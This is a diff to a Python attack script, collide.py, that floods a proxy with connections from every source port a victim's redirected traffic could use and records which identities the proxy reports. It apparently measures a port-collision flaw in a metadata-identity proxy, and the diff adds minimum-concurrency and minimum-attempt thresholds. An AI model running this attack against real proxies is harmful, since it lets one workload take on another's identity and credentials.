@@ -2,7 +2,8 @@
 """The port-collision attack: occupies every port that a victim's redirected connection could have, with connections from
 the node's own address straight to the proxy, and asks on each of them who it is.
 
-usage: collide.py OWN_ADDRESS PROXY_ADDRESS PROXY_PORT SECONDS
+usage: collide.py OWN_ADDRESS PROXY_ADDRESS PROXY_PORT SECONDS [AT_ONCE ATTEMPTS]
+With AT_ONCE and ATTEMPTS it goes on for up to 30 s more where a slow machine has not come to so many in SECONDS.
 Prints one line of JSON: how many connections there were at once, and how often each identity was told to us.
 """
 import json
@@ -16,6 +17,7 @@ import time
 from imds import identity, outcome
 
 own, proxy, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
+least_at_once, least_attempts = [int(word) for word in sys.argv[5:7]] or [0, 0]
 IP_BIND_ADDRESS_NO_PORT = 24
 family = socket.AF_INET6 if ":" in own else socket.AF_INET
 soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
@@ -35,7 +37,7 @@ def connect():
 
 held, identities, most, attempts = [], {}, 0, 0
 end = time.monotonic() + seconds
-while time.monotonic() < end:
+while time.monotonic() < end or ((most < least_at_once or attempts < least_attempts) and time.monotonic() < end + 30):
     attempts += 1
     try:
         s = connect()
